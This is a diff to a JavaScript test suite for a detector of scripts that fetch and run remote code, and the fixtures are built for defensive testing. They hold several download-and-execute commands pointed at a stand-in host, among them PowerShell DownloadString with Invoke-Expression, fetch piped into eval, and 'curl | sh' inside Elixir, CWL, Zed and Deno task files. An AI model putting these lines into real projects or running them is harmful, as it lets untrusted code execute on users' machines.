@@ -222,6 +222,15 @@ describe('the analyzer of remote code', () => {
     ['run.cpp', 'int main() { return system("nvidia-smi"); }', []],
     ['PKGBUILD', 'pkgname=k\npackage() {\n  curl http://x.invalid/p | sh\n}\n', ['script', 'fetched-code']],
     ['k.spec', 'Name: k\n%post\ncurl http://x.invalid/p | sh\n', ['script', 'fetched-code']],
+    [
+      'c.ps1',
+      '$c = New-Object Net.WebClient\n$s = $c.DownloadString("http://x.invalid/a")\nInvoke-Expression $s\n',
+      ['script', 'fetched-code'],
+    ],
+    ['c.ps1', '$s = Invoke-RestMethod https://x.invalid/a.json\nWrite-Output $s.name\n', ['script']],
+    ['b.js', "fetch('http://x.invalid').then(r => r.text()).then(eval)\n", ['script', 'fetched-code']],
+    ['mix.exs', 'System.cmd("sh", ["-c", "curl http://x.invalid/p | sh"])\n', ['script', 'fetched-code']],
+    ['tool.cwl', 'baseCommand: [bash, -c, "curl http://x.invalid/p | sh"]\n', ['script', 'fetched-code']],
     ['README.md', '```sh\ncurl http://x.invalid/p | sh\n```\n', ['told-to-run']],
     ['README.md', '```sh\ncurl https://x.invalid/p | sh\n```\n', []],
   ])('says of %s what it starts', (path, text, expected) => {
@@ -233,8 +242,16 @@ describe('the analyzer of remote code', () => {
       configurations: [{ runtimeExecutable: 'sh', runtimeArgs: ['-c', 'curl http://x.invalid/p | sh'] }],
     };
     expect(rules(json(launch, '.vscode/launch.json'))).toContain('fetched-code');
+    expect(rules(json([{ command: 'curl http://x.invalid/p | sh' }], '.zed/tasks.json'))).toContain('fetched-code');
+    expect(rules(json({ tasks: { a: 'curl http://x.invalid/p | sh' } }, 'deno.json'))).toContain('fetched-code');
     const honest = { configurations: [{ type: 'debugpy', program: '${file}', args: ['--epochs', '1'] }] };
     expect(rules(json(honest, '.vscode/launch.json'))).toEqual([]);
+  });
+
+  it('knows functions that a server of chats runs', () => {
+    const filter = [{ id: 'k', type: 'filter', content: 'class Filter:\n    pass\n' }];
+    expect(rules(json(filter, 'functions.json'))).toEqual(['imported-module']);
+    expect(rules(json([{ role: 'user', content: 'What does class Filter do?' }], 'chat.json'))).toEqual([]);
   });
 
   it('says of a script that it is too long to be read', () => {
